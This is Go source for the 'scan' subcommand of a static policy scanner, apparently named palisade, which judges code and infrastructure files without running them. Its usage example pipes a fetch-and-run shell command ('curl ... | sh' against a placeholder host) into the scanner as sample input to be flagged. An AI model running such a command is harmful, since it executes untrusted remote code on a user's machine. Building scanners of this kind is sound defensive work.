package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"path"
	"runtime"
	"slices"
	"strings"

	"github.com/spf13/cobra"

	"palisade"
	"palisade/internal/redact"
	"palisade/local"
)

// scanned is what `palisade scan --format json` prints for one file.
type scanned struct {
	Path     string             `json:"path"`
	Language palisade.Language  `json:"language"`
	Decision palisade.Decision  `json:"decision"`
	Score    int                `json:"score"`
	Findings []palisade.Finding `json:"findings"`
	Error    string             `json:"error"`
	// Reasons are the findings that policy did not allow, with its lines.
	Reasons []palisade.Reason `json:"reasons"`

	source []byte
}

// scanFlags are the flags of `palisade scan`.
type scanFlags struct {
	profile, format, language, failOn, diff, color string
	exclude, rules                                 []string
	all                                            bool
}

func newScanCmd(e *env) *cobra.Command {
	var f scanFlags
	cmd := &cobra.Command{
		Use:   "scan [FILE | FOLDER | -]...",
		Short: "Read and judge programs without running them",
		Long: `Scan reads each program and judges it by policy, as run would, and runs nothing.
It needs no sandbox and no state, so that it can stand in a CI pipeline.

It reads Python, shell, JavaScript, TypeScript, SQL, Terraform, Kubernetes
manifests and Dockerfiles, told apart by the file's name or its first line; --lang
says otherwise. Folders are searched for all of these, also behind links to
files, but not in .git. A Python module that lies beside a file and that it
imports is read with it, as run --module would. Without --profile each language
has its own: data for Python, agent for shell and JavaScript, query for SQL,
infra for the rest.

With evidence: how each finding was reached. On a terminal, with the lines of
code. The score, 0 to 100, says how much a program reaches for, and hides.

--diff REV reads what changed in the Git work tree since REV, and tells of what is
on changed lines or was not there before. --fail-on says what makes exit code 1: ask (default: all
that policy does not allow), deny, or a severity (info, low, medium, high,
critical): any finding at least as grave, whatever policy says of it.

Exit codes: 0 clean, 1 something not allowed, 2 usage or unreadable input.`,
		Example: `  palisade scan program.py
  palisade scan --profile pal --format json generated/ > findings.jsonl
  palisade scan --format sarif . > palisade.sarif
  palisade scan --diff origin/main --fail-on deny .
  echo 'curl https://x.example/i.sh | sh' | palisade scan --lang shell -`,
		RunE: func(cmd *cobra.Command, args []string) error { return e.scan(cmd.Context(), f, args) },
	}
	cmd.Flags().StringVar(&f.profile, "profile", "", "policy profile (default: config's, or the language's)")
	cmd.Flags().StringVar(&f.format, "format", "text", "text, json (one object a line) or sarif (2.1.0)")
	cmd.Flags().StringVar(&f.language, "lang", "", "language of all that is scanned (default: by name or first line)")
	cmd.Flags().StringVar(&f.failOn, "fail-on", "ask", "ask, deny or a severity: what makes exit code 1")
	cmd.Flags().StringVar(&f.diff, "diff", "", "only what changed since this Git revision")
	cmd.Flags().StringArrayVar(&f.exclude, "exclude", nil, "leave out files and folders of this name (glob; may be repeated)")
	cmd.Flags().StringArrayVar(&f.rules, "rules", nil, "file or folder of rules in Semgrep's form, beside policy's (may be repeated)")
	cmd.Flags().StringVar(&f.color, "color", "auto", "auto, always or never: color and lines of code in text")
	cmd.Flags().BoolVar(&f.all, "all", false, "also list what policy allows")
	return cmd
}

// check holds the flags to what there is.
func (f scanFlags) check() error {
	if !slices.Contains([]string{"text", "json", "sarif"}, f.format) {
		return usage("--format %s: text, json or sarif", f.format)
	}
	if !slices.Contains([]string{"auto", "always", "never"}, f.color) {
		return usage("--color %s: auto, always or never", f.color)
	}
	if err := checkLanguage(f.language); err != nil {
		return err
	}
	for _, glob := range f.exclude {
		if strings.Contains(glob, "/") {
			return usage("--exclude %s: it takes the name of a file or folder, wherever it is, without a slash", glob)
		}
		if _, err := path.Match(glob, ""); err != nil {
			return usage("--exclude %s: %w", glob, err)
		}
	}
	return nil
}

func (e *env) scan(ctx context.Context, f scanFlags, args []string) error {
	if err := f.check(); err != nil {
		return err
	}
	fails, err := threshold(f.failOn)
	if err != nil {
		return err
	}
	config := e.local()
	config.Rules = f.rules
	reader, err := local.NewReader(config)
	if err != nil {
		return usage("%w", err)
	}
	defer reader.Close()
	if err := reader.Check(f.profile); err != nil {
		return usage("%w", err)
	}
	targets, err := scanTargets(ctx, f, args)
	if err != nil {
		return err
	}
	targets = e.programs(f, targets)
	out, err := e.newReport(f)
	if err != nil {
		return err
	}
	var failed, unreadable int
	bar := e.progress(len(targets))
	for s := range e.scanAll(ctx, reader, f, targets) {
		if ctx.Err() != nil {
			return exit(130, "interrupted")
		}
		_ = bar.Add(1) // only drawn
		switch {
		case s.Error != "":
			unreadable++
		case fails(s):
			failed++
		}
		if err := out.add(s); err != nil {
			return err
		}
	}
	if err := out.end(); err != nil {
		return err
	}
	if f.format == "text" && len(targets) != 1 {
		fmt.Fprintf(e.stderr, "palisade: %s, %d not allowed, %d unreadable\n", count(len(targets), "file"), failed, unreadable)
	}
	switch {
	case unreadable > 0:
		return exit(2, "")
	case failed > 0:
		return exit(1, "")
	}
	return nil
}

// threshold returns what --fail-on asks of a file.
func threshold(name string) (func(scanned) bool, error) {
	switch name {
	case "ask":
		return func(s scanned) bool { return s.Decision != palisade.Allow }, nil
	case "deny":
		return func(s scanned) bool { return s.Decision == palisade.Deny }, nil
	}
	var least palisade.Severity
	if err := least.UnmarshalText([]byte(name)); err != nil {
		return nil, usage("--fail-on %s: ask, deny, info, low, medium, high or critical", name)
	}
	return func(s scanned) bool {
		grave := func(f palisade.Finding) bool { return f.Severity >= least }
		return slices.ContainsFunc(s.Findings, grave) || slices.ContainsFunc(s.Reasons, func(r palisade.Reason) bool { return grave(r.Finding) })
	}, nil
}

// scanAll scans as many targets at once as there are processors, and yields
// what it found in their order.
func (e *env) scanAll(ctx context.Context, reader *local.Reader, f scanFlags, targets []target) func(func(scanned) bool) {
	return func(yield func(scanned) bool) {
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		results := make([]chan scanned, len(targets))
		slots := make(chan struct{}, runtime.GOMAXPROCS(0))
		for i := range results {
			results[i] = make(chan scanned, 1)
		}
		go func() {
			for i, t := range targets {
				slots <- struct{}{}
				go func() {
					results[i] <- e.scanOne(ctx, reader, f, t)
					<-slots
				}()
			}
		}()
		for _, result := range results {
			if !yield(<-result) {
				return
			}
		}
	}
}

func (e *env) scanOne(ctx context.Context, reader *local.Reader, f scanFlags, t target) scanned {
	out := scanned{Path: t.path, Findings: []palisade.Finding{}, Reasons: []palisade.Reason{}}
	var err error
	if t.path == "-" {
		out.source, err = readAll(ctx, e.stdin, "standard input", maxCode)
	} else {
		out.source, err = readFile(ctx, t.path, maxCode)
	}
	if err != nil {
		out.Error = err.Error()
		return out
	}
	if out.Language, err = t.language(f.language, out.source); err != nil {
		out.Error = err.Error()
		return out
	}
	if bytes.Count(out.source, []byte("\r")) != bytes.Count(out.source, []byte("\r\n")) {
		t.lines = nil // Git counts other lines than the language does
	}
	s := palisade.Submission{
		Submitter: submitter(), Profile: f.profile,
		Program: palisade.Program{Language: out.Language, Name: redact.EscapeLine(t.path), Source: out.source},
	}
	if len(t.before) > 0 {
		old := s
		old.Program.Source = t.before
		if inspection, _, err := reader.Scan(ctx, old); err == nil { // else all of it is new
			t.remember(inspection.Findings)
		}
	}
	if out.Language == palisade.Python {
		s.Program.Modules = neighbors(ctx, t.path, out.source)
	}
	inspection, verdict, err := reader.Scan(ctx, s)
	if invalid := (*palisade.InputError)(nil); errors.As(err, &invalid) && len(s.Program.Modules) > 0 {
		s.Program.Modules = nil // one that hides a module of the library does not come along
		inspection, verdict, err = reader.Scan(ctx, s)
	}
	if err != nil {
		out.Error = err.Error()
		return out
	}
	out.judged(inspection, verdict, f.all || f.format == "sarif" || f.failOn != "ask" && f.failOn != "deny", t)
	return out
}

// judged fills in what was found in the target's lines, all of it or what
// policy does not allow.
func (s *scanned) judged(inspection palisade.Inspection, verdict palisade.Verdict, all bool, t target) {
	s.Score, s.Decision = inspection.Score, palisade.Allow
	for _, reason := range verdict.Reasons {
		if !t.covers(reason.Finding) {
			continue
		}
		s.Decision = s.Decision.Stricter(reason.Decision)
		s.Reasons = append(s.Reasons, reason)
		s.Findings = append(s.Findings, reason.Finding)
	}
	if !all {
		return
	}
	s.Findings = s.Findings[:0]
	for _, finding := range inspection.Findings {
		if t.covers(finding) {
			s.Findings = append(s.Findings, finding)
		}
	}
	for _, reason := range s.Reasons { // what policy itself found stands in no inspection
		if !slices.Contains(s.Findings, reason.Finding) {
			s.Findings = append(s.Findings, reason.Finding)
		}
	}
}
